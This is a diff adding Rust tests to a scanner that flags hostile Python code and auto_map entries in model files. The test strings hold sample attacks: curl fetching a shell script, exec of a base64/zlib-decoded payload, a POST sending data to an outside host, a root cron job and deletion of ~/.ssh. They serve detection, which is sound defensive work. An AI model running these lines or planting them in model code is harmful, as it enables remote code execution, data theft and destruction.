@@ -561,3 +561,86 @@ fn keras_lambda_layers_and_imports() {
     assert_eq!(rules(&r), ["KRS001"], "{:?}", r.findings);
     assert_eq!(r.format, "keras-config");
 }
+
+#[test]
+fn remote_code_is_parsed_and_judged() {
+    let root = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    // ordinary modeling code: torch, transformers, os.path, reading its own files
+    let benign = root.join("fixtures/remote_code/modeling_benign.py");
+    let r = probity::scan::scan_file(&benign, "modeling_benign.py".into(), &Ctx::default());
+    assert_eq!(r.format, "python");
+    assert!(r.findings.is_empty(), "{:?}", r.findings);
+    let cases: &[(&str, &[&str])] = &[
+        (
+            "import subprocess as sp\nclass M:\n    def __init__(self):\n        sp.Popen(['curl', 'http://203.0.113.7/x.sh'])\n",
+            &["subprocess.Popen"],
+        ),
+        (
+            "import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJzL')))\n",
+            &["exec", "decoded by zlib.decompress"],
+        ),
+        ("__import__('os').system('id')\n", &["os.system", "__import__"]),
+        (
+            "from urllib.request import urlopen as u\nimport requests\ndef f(k):\n    requests.post('https://x.example', data=k)\n    return u('http://203.0.113.9/')\n",
+            &["requests.post", "urllib.request.urlopen"],
+        ),
+        (
+            "import os\ndef f(a=os.system('id')):\n    return [os.popen(x) for x in 'ab']\nsorted([], key=eval('len'))\n",
+            &["line 2: `os.system`", "line 3: `os.popen`", "line 4: `eval`"],
+        ),
+        (
+            "with open('/etc/cron.d/x', 'w') as f:\n    f.write('* * * * * root id')\n",
+            &["writing outside the model folder"],
+        ),
+        ("import shutil\nshutil.rmtree('~/.ssh')\n", &["shutil.rmtree"]),
+    ];
+    for (src, needles) in cases {
+        let r = scan_bytes("modeling_x.py", src.as_bytes());
+        assert_eq!(r.format, "python", "{src}");
+        assert!(!r.findings.is_empty(), "{src}");
+        assert!(
+            r.findings.iter().all(|f| f.rule == "CFG006"),
+            "{:?}",
+            r.findings
+        );
+        let all: String = r
+            .findings
+            .iter()
+            .map(|f| f.message.clone())
+            .collect::<Vec<_>>()
+            .join(" | ");
+        for n in *needles {
+            assert!(all.contains(n), "{n} missing from {all}");
+        }
+    }
+    // os.path and relative writes are ordinary
+    let r = scan_bytes(
+        "x.py",
+        b"import os\nwith open(os.path.join(d, 'out.txt'), 'w') as f:\n    f.write('x')\nos.remove('tmp.bin')\n",
+    );
+    assert!(r.findings.is_empty(), "{:?}", r.findings);
+}
+
+#[test]
+fn auto_map_names_the_code_it_would_run() {
+    let cfg = serde_json::json!({
+        "architectures": ["XForCausalLM"],
+        "model_type": "x",
+        "auto_map": {
+            "AutoConfig": "configuration_x.XConfig",
+            "AutoModelForCausalLM": "modeling_x.XForCausalLM",
+            "AutoTokenizer": ["tokenization_x.XTokenizer", null],
+            "AutoModel": "other-org/shared-code--modeling_shared.SharedModel"
+        }
+    });
+    let r = scan_bytes("config.json", cfg.to_string().as_bytes());
+    assert_eq!(rules(&r), ["CFG005"]);
+    assert_eq!(
+        r.findings[0].evidence.as_deref(),
+        Some("configuration_x.py, modeling_x.py, other-org/shared-code: modeling_shared.py, tokenization_x.py")
+    );
+    let plain = serde_json::json!({"architectures": ["LlamaForCausalLM"], "model_type": "llama"});
+    assert!(scan_bytes("config.json", plain.to_string().as_bytes())
+        .findings
+        .is_empty());
+}
